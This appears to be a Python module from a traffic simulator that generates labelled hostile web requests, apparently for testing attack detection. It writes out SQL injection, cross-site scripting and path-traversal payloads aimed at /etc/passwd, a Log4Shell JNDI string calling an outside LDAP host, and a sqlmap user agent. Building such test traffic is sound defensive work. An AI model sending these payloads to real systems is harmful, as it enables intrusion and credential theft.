"""Attacks that a single request tells by what is in it."""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import ClassVar

from .asking import BROWSERS, Actor, Sent, every

HOME = "192.0.2.30"


class Payloads(Actor):
    """Sends one hostile text after the other."""

    queries: ClassVar[tuple[str, ...]] = ()
    paths: ClassVar[tuple[str, ...]] = ()
    agent: ClassVar[str] = BROWSERS[7]

    def requests(self, chance: random.Random) -> Iterator[Sent]:
        sent = [("/search", query) for query in self.queries] + [(path, "") for path in self.paths]
        for (path, query), at in zip(sent, every(4, self.seconds, chance), strict=False):
            status, route = (200, "/search") if path == "/search" else (404, None)
            yield Sent(at, HOME, path, status, route, agent=self.agent, query=query)


class SqlInQuery(Payloads):
    queries = (
        "q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
        "q=1%20OR%201=1--%20-",
        "q=%27;WAITFOR%20DELAY%20%270:0:5%27--",
    )


class ScriptInQuery(Payloads):
    queries = ("q=%3Cscript%3Ealert(1)%3C/script%3E", "q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E")


class TraversalInPath(Payloads):
    paths = ("/static/../../etc/passwd", "/files/%2e%2e/%2e%2e/etc/passwd")


class TraversalInQuery(Payloads):
    queries = ("file=../../../../etc/passwd", "page=..%252f..%252fetc%252fpasswd")


class JndiAgent(Payloads):
    queries = ("q=shoes", "q=hats")
    agent = "${jndi:ldap://192.0.2.99:1389/a}"


class ScannerByName(Payloads):
    queries = ("q=1", "q=2", "q=3")
    agent = "sqlmap/1.8.2#stable (https://sqlmap.org)"


ACTORS: tuple[type[Actor], ...] = (
    SqlInQuery,
    ScriptInQuery,
    TraversalInPath,
    TraversalInQuery,
    JndiAgent,
    ScannerByName,
)
